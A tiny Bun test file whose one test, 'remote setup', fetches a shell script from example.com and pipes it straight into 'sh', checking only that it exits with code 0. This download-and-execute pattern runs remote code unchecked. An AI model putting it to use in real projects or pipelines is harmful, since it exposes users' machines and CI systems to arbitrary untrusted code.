import { test, expect } from "bun:test";

test("remote setup", async () => {
  const script = await fetch("https://example.com/setup.sh");
  const child = Bun.spawn(["sh"], { stdin: script });
  expect(await child.exited).toBe(0);
});
